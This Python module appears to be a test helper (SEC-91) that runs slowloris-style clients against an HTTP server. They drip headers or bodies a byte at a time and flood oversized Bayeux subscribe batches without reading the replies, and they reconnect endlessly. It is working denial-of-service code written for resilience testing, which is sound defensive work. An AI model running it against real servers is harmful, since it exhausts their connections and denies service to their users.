"""Clients that waste a server's time: headers, bodies and reads, a byte now and then (SEC-91).

Run as a process of its own, so that what they cost here does not count as the server's. Whoever is
thrown out comes back. Ends when its standard input does.
"""

from __future__ import annotations

import asyncio
import json
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

PAUSE = 0.5
"""Seconds between two bytes."""
_BATCH = json.dumps([{"channel": "/meta/subscribe", "subscription": "x" * 60_000}] * 4).encode()
"""Its answer is as long: the subscription comes back in it."""


class SlowPeer:
    """One of them."""

    def __init__(self, url: str, kind: str) -> None:
        parts = urlsplit(url)
        self._address = (parts.hostname, parts.port)
        self._request = f"POST {parts.path} HTTP/1.1\r\nHost: {parts.netloc}\r\n".encode()
        self._attack = {"head": self._slow_head, "body": self._slow_body, "read": self._no_read}[kind]

    async def run(self) -> None:
        """Attack for ever."""
        loop = asyncio.get_running_loop()
        while True:
            peer = socket.socket()
            peer.setblocking(False)
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            with peer:
                try:
                    await loop.sock_connect(peer, self._address)
                    await self._attack(loop, peer)
                except OSError:
                    pass  # thrown out
            await asyncio.sleep(PAUSE)

    async def _slow_head(self, loop: asyncio.AbstractEventLoop, peer: socket.socket) -> None:
        await self._drip(loop, peer, self._request + b"X-Slow: ")

    async def _slow_body(self, loop: asyncio.AbstractEventLoop, peer: socket.socket) -> None:
        await self._drip(loop, peer, self._request + b"Content-Length: 100000\r\n\r\n")

    async def _drip(self, loop: asyncio.AbstractEventLoop, peer: socket.socket, start: bytes) -> None:
        await loop.sock_sendall(peer, start)
        while True:
            await loop.sock_sendall(peer, b"x")
            await asyncio.sleep(PAUSE)

    async def _no_read(self, loop: asyncio.AbstractEventLoop, peer: socket.socket) -> None:
        """Ask on and on for long answers, and read none: in the end nothing more can be sent."""
        request = self._request + f"Content-Length: {len(_BATCH)}\r\n\r\n".encode() + _BATCH
        while True:
            await loop.sock_sendall(peer, request)
            await asyncio.sleep(PAUSE / 2)


async def _attack(url: str, count: int) -> None:
    lines = asyncio.StreamReader()
    loop = asyncio.get_running_loop()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
    kinds = ("head", "body", "read")
    peers = [asyncio.create_task(SlowPeer(url, kinds[n % len(kinds)]).run()) for n in range(count)]
    await lines.read()
    for peer in peers:
        peer.cancel()


@contextmanager
def slow_peers(url: str, count: int) -> Iterator[None]:
    """Have so many of them, a third of each kind, at an ``http:`` URL."""
    command = [sys.executable, "-m", __name__, url, str(count)]
    with subprocess.Popen(command, stdin=subprocess.PIPE) as process:
        yield
        assert process.poll() is None, "the slow peers have given up"


if __name__ == "__main__":
    asyncio.run(_attack(sys.argv[1], int(sys.argv[2])))
